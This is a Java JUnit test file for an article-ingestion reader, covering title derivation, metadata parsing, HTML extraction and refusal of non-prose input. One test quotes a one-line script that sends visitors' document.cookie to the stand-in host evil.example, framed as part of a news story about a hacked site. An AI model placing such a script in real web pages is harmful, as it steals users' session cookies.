package dev.parallax.ingest;

import dev.parallax.article.Block;
import dev.parallax.article.BlockKind;
import dev.parallax.ingest.IngestionRefusedException.Reason;
import org.junit.jupiter.api.Test;

import java.time.LocalDate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class ArticleReaderTest {

    private static final String BODY = "Farmers in the valley began the harvest two weeks early this year after a dry summer.\n"
            + "The regional board said yields were down by about a fifth compared with last season.";

    private final ArticleReader reader = new ArticleReader();

    @Test
    void titleIsDerivedFromTheOpeningSentenceAndMarked() {
        ParsedArticle article = reader.read(BODY, "valley.txt");

        assertThat(article.titleDerived()).isTrue();
        assertThat(article.title()).isEqualTo("Farmers in the valley began the harvest two weeks early this year after a dry summer");
        assertThat(article.blocks()).extracting(Block::getKind).doesNotContain(BlockKind.TITLE);
    }

    @Test
    void longOpeningSentenceIsCutAtAClauseOrWordBoundary() {
        String sentence = "Farmers across the northern valley, who have grown wheat and barley for generations on the same land, "
                + "began the harvest early after the driest summer on record.";

        String title = reader.read(sentence + "\n" + BODY, "x.txt").title();

        assertThat(title).endsWith("…").startsWith("Farmers across the northern valley");
        assertThat(title.split(" ").length).isLessThanOrEqualTo(16);
    }

    @Test
    void sourceComesFromTheFileNameWhenTheTextHasNoMetadata() {
        assertThat(reader.read(BODY, "007_abcdef.txt").source()).isEqualTo("007");
        assertThat(reader.read(BODY, "valley-news.html").source()).isEqualTo("valley-news");
    }

    @Test
    void fencedFrontMatterGivesTitleSourceUrlAndDate() {
        String text = "---\ntitle: Early Harvest in the Valley\nsource: Valley Herald\nurl: https://example.org/h\n"
                + "published: 2025-08-14\n---\n" + BODY;

        ParsedArticle article = reader.read(text, "upload");

        assertThat(article.title()).isEqualTo("Early Harvest in the Valley");
        assertThat(article.titleDerived()).isFalse();
        assertThat(article.source()).isEqualTo("Valley Herald");
        assertThat(article.url()).isEqualTo("https://example.org/h");
        assertThat(article.published()).isEqualTo(LocalDate.of(2025, 8, 14));
        assertThat(article.blocks().getFirst().getKind()).isEqualTo(BlockKind.TITLE);
        assertThat(article.blocks()).filteredOn(b -> b.getKind() == BlockKind.PARAGRAPH).hasSize(2);
    }

    @Test
    void unfencedHeaderOfKnownKeysEndsAtTheFirstBlankLine() {
        String text = "Title: Early Harvest\nSource: Valley Herald\n\n" + BODY;

        ParsedArticle article = reader.read(text, "upload");

        assertThat(article.title()).isEqualTo("Early Harvest");
        assertThat(article.source()).isEqualTo("Valley Herald");
    }

    @Test
    void aFirstLineThatMerelyHasAColonIsNotAHeader() {
        String text = "Also read: nothing here\n\n" + BODY;

        assertThat(reader.read(text, "a_b.txt").source()).isEqualTo("a");
    }

    @Test
    void aPublicationTimeWithOrWithoutItsOffsetGivesItsDate() {
        for (String published : new String[] {"2013-07-22T08:04", "2013-07-22 08:04:00", "2013-07-22T08:04:00Z",
                "2013-07-22T23:30:00-05:00"}) {
            String text = "---\ntitle: X\npublished: " + published + "\n---\n" + BODY;

            assertThat(reader.read(text, "upload").published()).as(published).isEqualTo(LocalDate.of(2013, 7, 22));
        }
    }

    @Test
    void badPublishedDateIsRefusedWithTheValue() {
        String text = "---\ntitle: X\npublished: last Tuesday\n---\n" + BODY;

        assertThatThrownBy(() -> reader.read(text, "upload"))
                .isInstanceOfSatisfying(IngestionRefusedException.class, e -> assertThat(e.reason()).isEqualTo(Reason.MALFORMED))
                .hasMessageContaining("last Tuesday");
    }

    @Test
    void htmlPageGivesItsMainTextAndMetadataWithoutNavigationOrScripts() {
        String html = """
                <!DOCTYPE html><html><head><title>Harvest | Valley Herald</title>
                <meta property="og:site_name" content="Valley Herald">
                <meta property="article:published_time" content="2025-08-14T09:00:00Z">
                <link rel="canonical" href="https://example.org/harvest"></head>
                <body><nav><a href="/">Home</a> <a href="/sport">Sport</a></nav>
                <article><h1>Early Harvest in the Valley</h1>
                <p>Farmers in the valley began the harvest two weeks early this year after a dry summer.</p>
                <h2>What the board says</h2>
                <p>The regional board said yields were down by about a fifth compared with last season.</p>
                <script>trackReader()</script>
                <p>Questions for discussion:</p>
                <ol><li>Why did the harvest start early?</li><li>Who bears the loss?</li></ol>
                </article><footer>© Valley Herald</footer></body></html>""";

        ParsedArticle article = reader.read(html, "harvest.html");

        assertThat(article.title()).isEqualTo("Early Harvest in the Valley");
        assertThat(article.source()).isEqualTo("Valley Herald");
        assertThat(article.url()).isEqualTo("https://example.org/harvest");
        assertThat(article.published()).isEqualTo(LocalDate.of(2025, 8, 14));
        assertThat(article.blocks()).extracting(Block::getKind).containsExactly(BlockKind.TITLE, BlockKind.PARAGRAPH,
                BlockKind.HEADING, BlockKind.PARAGRAPH, BlockKind.HEADING, BlockKind.QUESTION, BlockKind.QUESTION);
        assertThat(article.blocks()).extracting(Block::getText)
                .noneMatch(text -> text.contains("trackReader") || text.contains("Sport") || text.contains("©"));
    }

    @Test
    void textWithoutProseIsRefused() {
        for (String text : new String[]{"12 34 56\n78 90 12", "Short Headline Only", "<project><a>1</a><b>two</b></project>",
                "{\"title\": \"x\", \"body\": \"some words that are not an article at all\"}"}) {
            assertThatThrownBy(() -> reader.read(text, "x"))
                    .isInstanceOfSatisfying(IngestionRefusedException.class, e -> assertThat(e.reason()).isEqualTo(Reason.NO_PROSE));
        }
    }

    @Test
    void proseThatQuotesALineOfMarkupIsStillAnArticle() {
        String script = "<script>var c=document.cookie;if(c){var i=new Image();i.src=\"https://evil.example/c?v=\"+c;}</script>";
        String text = """
                Hackers Planted Script on City Website
                The city's website served a malicious script to its visitors for two days, officials said on Monday.
                Investigators found one line added to the page of road closures:
                %s
                It sent the visitors' session cookies to a server abroad, the security office said.
                Residents who paid parking fines in those days were told to change their passwords.""".formatted(script);

        ParsedArticle article = reader.read(text, "hack.txt");

        assertThat(article.title()).isEqualTo("Hackers Planted Script on City Website");
        assertThat(article.blocks()).extracting(Block::getText).contains(script);
    }

    @Test
    void aTextThatIsMostlyCodeIsRefusedEvenWithASentenceOfProse() {
        String text = """
                This file sets up the reader tracking on every page of the site.
                function track(reader) { if (reader.id == null) { return; } }
                const pages = document.querySelectorAll("article[data-id]");
                pages.forEach(page => { page.dataset.seen = "true"; track(page); });
                window.addEventListener("load", () => { track({ id: 1 }); });
                <script src="/track.js"></script>""";

        assertThatThrownBy(() -> reader.read(text, "track.js"))
                .isInstanceOfSatisfying(IngestionRefusedException.class, e -> assertThat(e.reason()).isEqualTo(Reason.NO_PROSE));
    }
}
